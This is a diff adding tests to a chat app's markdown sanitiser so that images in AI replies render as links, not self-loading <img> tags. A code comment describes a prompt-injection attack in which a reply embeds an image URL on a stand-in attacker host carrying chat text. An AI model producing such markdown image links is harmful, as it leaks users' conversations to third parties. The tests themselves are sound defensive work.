@@ -75,6 +75,22 @@ describe('renderMarkdown', () => {
   })
 })
 
+describe('images in replies', () => {
+  // A prompt-injected reply could carry ![](https://attacker/?q=<chat text>): the browser would fetch it
+  // the moment it renders. Images are shown as plain links instead, so nothing loads without a click.
+  it('renders a markdown image as a link, never an <img> that loads by itself', () => {
+    const root = dom(renderMarkdown('![a chart](https://example.com/t.png?q=secret)'))
+    expect(root.querySelector('img')).toBeNull()
+    const link = root.querySelector('a')
+    expect(link.getAttribute('href')).toBe('https://example.com/t.png?q=secret')
+    expect(link.textContent).toContain('a chart')
+  })
+
+  it('drops <img> even when it reaches the sanitiser directly', () => {
+    expect(dom(sanitizeHtml('<p>x<img src="https://example.com/t.png"></p>')).querySelector('img')).toBeNull()
+  })
+})
+
 describe('sanitizeHtml (the DOMPurify layer)', () => {
   it('removes script tags, event handlers and javascript: URLs', () => {
     const dirty =
@@ -83,7 +99,7 @@ describe('sanitizeHtml (the DOMPurify layer)', () => {
     const root = dom(sanitizeHtml(dirty))
     expect(root.querySelector('script, iframe')).toBeNull()
     expect(root.querySelector('p').hasAttribute('onclick')).toBe(false)
-    expect(root.querySelector('img').hasAttribute('onerror')).toBe(false)
+    expect(root.querySelector('img')).toBeNull() // images never survive, so neither can their handlers
     for (const a of root.querySelectorAll('a')) expect(a.hasAttribute('href')).toBe(false)
   })
 
